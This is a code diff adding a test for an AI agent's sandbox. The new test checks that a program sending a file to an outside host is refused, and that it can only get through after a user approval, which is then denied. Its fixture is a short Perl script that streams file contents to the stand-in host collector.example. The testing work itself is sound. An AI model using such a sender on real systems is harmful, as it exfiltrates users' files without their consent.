@@ -38,6 +38,18 @@ beforeAll(() => {
     ].join("\n"),
   );
   chmodSync(program, 0o755);
+  const sender = join(home, "bin", "frobsend");
+  writeFileSync(
+    sender,
+    [
+      "#!/usr/bin/perl",
+      "use IO::Socket::INET;",
+      'my $to = IO::Socket::INET->new(PeerAddr => "collector.example", PeerPort => 443) or die "cannot: $!\\n";',
+      "print $to join '', <>;",
+      "",
+    ].join("\n"),
+  );
+  chmodSync(sender, 0o755);
   process.env.FROB_HOME = home;
   process.env.PATH = `${join(home, "bin")}:${process.env.PATH}`;
 });
@@ -161,4 +173,36 @@ test("more than can be held until somebody agrees is dropped, and the next run a
   ]);
   expect(second).toMatchObject({ outcome: "ok" });
   expect([read("a.txt"), statSync(join(root, "big")).size]).toEqual(["formatted a.txt\n", 70_000_000]);
+});
+
+test("an unknown program that sends a file away is refused by the kernel, and may reach that host only after a question that tells it", async () => {
+  const command = "frobsend a.txt";
+  const call = (more: object) => [{ call: "run_command", with: { command, ...more } }];
+  const model = scripted([
+    call({}),
+    call({ outside: ["collector.example:443"] }),
+    call({ outside: ["nonsense/place"] }),
+    [{ say: "Done." }],
+  ]);
+  const { ask, facts, workspace } = await testSession(model, { files, sandbox: findSandbox });
+  onTestFinished(() => workspace.remove());
+  await ask("Send it.", "deny");
+  const [first, second, third] = facts().filter(({ type }) => type === "result");
+  expect(first).toMatchObject({
+    outcome: "failed",
+    refused: [{ wanted: "host", host: "collector.example", port: 443 }],
+  });
+  expect(JSON.stringify(first)).toContain(
+    'The sandbox refused it a connection to collector.example:443. If it needs that, run the same command once more with outside: [\\"collector.example:443\\"]; the user is asked.',
+  );
+  const asked = facts().filter(({ type }) => type === "approval-asked");
+  expect(asked).toMatchObject([
+    {
+      because:
+        "it is given collector.example:443 (tried contained: it was refused a connection to collector.example:443, and changed nothing)",
+      sandbox: { profile: "install", outside: ["collector.example:443"] },
+    },
+  ]);
+  expect(second).toMatchObject({ outcome: "denied" });
+  expect(JSON.stringify(third)).toContain("is none of: a host");
 });
